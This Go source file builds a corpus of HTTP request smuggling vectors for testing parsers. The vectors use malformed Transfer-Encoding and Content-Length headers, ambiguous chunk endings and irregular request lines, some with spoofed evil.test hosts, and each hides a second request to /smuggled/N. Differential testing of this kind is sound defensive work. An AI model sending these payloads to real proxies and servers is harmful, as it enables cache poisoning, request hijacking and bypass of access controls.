package rfc

import (
	"fmt"
	"strings"
)

// A vector is what one client sends on one connection to make two recipients see different requests in it.
type vector struct{ name, bytes string }

// vectors makes the corpus. In each of them the first request asks for /v/N and what is smuggled for /smuggled/N, N being its number.
func vectors() (all []vector) {
	add := func(name, bytes string) {
		n := fmt.Sprint(len(all))
		all = append(all, vector{name, strings.NewReplacer("/v", "/v/"+n, "/smuggled", "/smuggled/"+n).Replace(bytes)})
	}
	const smuggled = "GET /smuggled HTTP/1.1\r\nHost: rfc.test\r\n\r\n"
	const host = "Host: rfc.test\r\n"

	// A Transfer-Encoding that one recipient takes for chunked and another does not, beside a length that says otherwise.
	codings := []string{
		"Transfer-Encoding: chunked", "Transfer-Encoding:chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding: chunked\t",
		"Transfer-Encoding:  chunked  ", "transfer-encoding: CHUNKED", "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked",
		"Transfer-Encoding:\x0bchunked", "Transfer-Encoding:\x0cchunked", "Transfer-Encoding: chunked\x0b", "Transfer-Encoding: \x00chunked",
		"Transfer-Encoding: chunked\x00", "Transfer-Encoding: \xffchunked", "Transfer-Encoding:\xa0chunked", "Transfer-Encoding\x00: chunked",
		"\x00Transfer-Encoding: chunked", "Transfer-Encoding\xa0: chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunkedx",
		"Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunk", "Transfer-Encoding: chunked;",
		"Transfer-Encoding: chunked;a=b", "Transfer-Encoding: ;chunked", "Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked",
		"Transfer-Encoding: chunked chunked", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: identity, chunked",
		"Transfer-Encoding: chunked, identity", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: identity", "Transfer-Encoding:",
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
		"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
		"Transfer-Encoding:\r\n chunked", "Transfer-Encoding:\r\n\tchunked", "Transfer-Encoding: chunked\r\n x", "X-A: b\r\n Transfer-Encoding: chunked",
		" Transfer-Encoding: chunked", "X-A: b\nTransfer-Encoding: chunked", "X-A: b\rTransfer-Encoding: chunked", "X-A: b\r\n\rTransfer-Encoding: chunked",
		"Transfer-Encoding: chun\rked", "Transfer-Encoding: chunked\r", "Transfer-Encoding: chunked\n", "Transfer_Encoding: chunked",
		"Transfer.Encoding: chunked", "Transfer Encoding: chunked", "Transfer-Encoding chunked", "Transfer-Encoding;: chunked",
		"Content-Encoding: chunked", "TE: chunked", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
	}
	for _, coding := range codings {
		content := "0\r\n\r\n" + smuggled
		add(fmt.Sprintf("%q, a length that covers what is smuggled", coding),
			fmt.Sprintf("POST /v HTTP/1.1\r\n%sContent-Length: %d\r\n%s\r\n\r\n%s", host, len(content)+len("/0"), coding, content))
		chunk := smuggled[:len(smuggled)-2] + "X: " // what follows the chunk becomes a field's value
		add(fmt.Sprintf("%q, a length that ends before what is smuggled", coding),
			fmt.Sprintf("POST /v HTTP/1.1\r\n%s%s\r\nContent-Length: 4\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", host, coding, len(chunk), chunk))
		add(fmt.Sprintf("%q without a length", coding),
			fmt.Sprintf("POST /v HTTP/1.1\r\n%s%s\r\n\r\n0\r\n\r\n%s", host, coding, smuggled))
	}

	// A length that two recipients read differently.
	for _, length := range []string{
		"Content-Length: %d", "Content-Length: +%d", "Content-Length: -%d", "Content-Length: 0%d", "Content-Length: 0x%d", "Content-Length: %d.0",
		"Content-Length: %d, %[1]d", "Content-Length: %d, 0", "Content-Length: 0, %d", "Content-Length: 0\r\nContent-Length: %d",
		"Content-Length: %d\r\nContent-Length: 0", "Content-Length: %d\r\nContent-Length: %[1]d", "Content-Length : %d", "Content-Length\t: %d",
		"Content_Length: %d", "Content-Length: %d\x00", "Content-Length:\x0b%d", "Content-Length: %d ", "Content-Length: \"%d\"", "Content-Length: %d;",
		"Content-Length: 0\r\n %d", "Content-Length:\r\n %d", "X-A: b\nContent-Length: %d", "X-A: b\rContent-Length: %d", " Content-Length: %d",
		"Content-Length %d", "Content-Length\x00: %d", "Content-Length: 18446744073709551616\r\nX: %d", "Connection: Content-Length\r\nContent-Length: %d",
		"Content-Length: ,%d", "Content-Length: %d,", "Content-Length: 1_%d",
	} {
		for _, method := range []string{"GET", "POST"} {
			add(fmt.Sprintf("%s with %q", method, length), method+" /v HTTP/1.1\r\n"+host+fmt.Sprintf(length, len(smuggled)+len("/0"))+"\r\n\r\n"+smuggled)
		}
	}

	// Chunks of which two recipients see different ends.
	for _, content := range []string{
		"0\n\n", "0\r\n\n", "0\n\r\n", "0\r\r\n\r\n", "0\r\n\r", "00\r\n\r\n", "0;a\r\n\r\n", "0;a\n\r\n", "0 \r\n\r\n", "0\t\r\n\r\n", "0\x00\r\n\r\n", "0\x0b\r\n\r\n",
		"-0\r\n\r\n", "+0\r\n\r\n", "0x0\r\n\r\n", "0_\r\n\r\n", "\r\n0\r\n\r\n", " 0\r\n\r\n", "0\r\nX-A: b\r\n\r\n", "0\r\nContent-Length: 50\r\n\r\n",
		"0\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\nHost: evil.test\r\n\r\n", "0\r\nX-A : b\r\n\r\n", "0\r\n X-A: b\r\n\r\n", "0\r\nX-A: b\n\r\n", "0\r\nX-A: b\r\n",
		"1\r\na0\r\n\r\n", "1\r\na\n0\r\n\r\n", "1\r\naXX0\r\n\r\n", "1\na\r\n0\r\n\r\n", "1;\n\r\na\r\n0\r\n\r\n", "1;a\rb\r\na\r\n0\r\n\r\n", "1;a=\"\r\n\"\r\na\r\n0\r\n\r\n",
		"10000000000000001\r\na\r\n0\r\n\r\n", "ffffffffffffffff\r\na\r\n0\r\n\r\n", "100000001\r\na\r\n0\r\n\r\n", "2\r\na\r\n0\r\n\r\n", "g\r\na\r\n0\r\n\r\n", "1 1\r\na\r\n0\r\n\r\n",
	} {
		add(fmt.Sprintf("content %q", content), "POST /v HTTP/1.1\r\n"+host+"Transfer-Encoding: chunked\r\n\r\n"+content+smuggled)
	}

	// Heads of which two recipients see different ends or targets.
	for _, head := range []string{
		"GET /v HTTP/1.1\r\n" + host + "X-A: b\n\nGET /smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v HTTP/1.1\r\n" + host + "X-A: b\r\rGET /smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v HTTP/1.1\r\n" + host + "X-A: b\r\n\rGET /smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v HTTP/1.1\n" + host + "\nGET /smuggled HTTP/1.1\n" + host + "\n",
		"GET /v HTTP/1.1\r" + host + "\r\n",
		"GET /v HTTP/1.1\r\n\x00" + host + "\r\n" + smuggled,
		"GET /v GET /smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v\tHTTP/1.1\r\n" + host + "\r\n",
		"GET /v HTTP/1.1 HTTP/1.0\r\n" + host + "\r\n",
		"GET /v\r\n" + smuggled,
		"GET /v HTTP/0.9\r\n" + host + "\r\n" + smuggled,
		"GET /v HTTP/2.0\r\n" + host + "\r\n" + smuggled,
		"GET /v HTTP/1.0\r\n" + host + "\r\n" + smuggled,
		"GET /v HTTP/1.9\r\n" + host + "\r\n" + smuggled,
		"GET http://evil.test/v HTTP/1.1\r\n" + host + "\r\n",
		"GET http://evil.test@rfc.test/v HTTP/1.1\r\n" + host + "\r\n",
		"GET /v HTTP/1.1\r\n" + host + "Host: evil.test\r\n\r\n",
		"GET /v HTTP/1.1\r\n" + host + " evil.test\r\n\r\n",
		"GET /v HTTP/1.1\r\n Host: evil.test\r\n" + host + "\r\n",
		"GET /v HTTP/1.1\r\nHost: rfc.test\r\n\tGET /smuggled HTTP/1.1\r\n\r\n",
		"GET /v%0d%0aGET%20/smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v#/smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v\r/smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v\x00/smuggled HTTP/1.1\r\n" + host + "\r\n",
		"GET /v\\..\\smuggled HTTP/1.1\r\n" + host + "\r\n",
		"\r\n\r\nGET /v HTTP/1.1\r\n" + host + "\r\n",
		"\nGET /v HTTP/1.1\r\n" + host + "\r\n",
		" GET /v HTTP/1.1\r\n" + host + "\r\n",
		"HEAD /v HTTP/1.1\r\n" + host + "Content-Length: 50\r\n\r\n" + smuggled,
		"OPTIONS * HTTP/1.1\r\n" + host + "Content-Length: 5\r\n\r\nhello" + smuggled,
		"CONNECT /v HTTP/1.1\r\n" + host + "\r\n" + smuggled,
		"CONNECT rfc.test:80 HTTP/1.1\r\n" + host + "\r\n" + smuggled,
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n\r\n" + smuggled,
		"POST /v HTTP/1.1\r\n" + host + "Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "Expect: 100-continue\r\n\r\n" + smuggled,
		"POST /v HTTP/1.1\r\n" + host + "Expect: y 100-continue\r\nContent-Length: 0\r\n\r\n" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "Connection: Host\r\n\r\n" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "Connection: close, X-A\r\nX-A: b\r\n\r\n" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "Connection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\n" + smuggled,
		"TRACE /v HTTP/1.1\r\n" + host + "Content-Length: 5\r\n\r\nhello" + smuggled,
		// Several requests at once, nothing hidden: each is to be seen once.
		"GET /v HTTP/1.1\r\n" + host + "\r\n" + smuggled + smuggled,
		"POST /v HTTP/1.1\r\n" + host + "Content-Length: 5\r\n\r\nhello" + smuggled,
		"POST /v HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + smuggled,
		"GET /v HTTP/1.1\r\n" + host + "\r\n\r\n" + smuggled,
	} {
		add(fmt.Sprintf("head %.120q", head), head)
	}
	return all
}
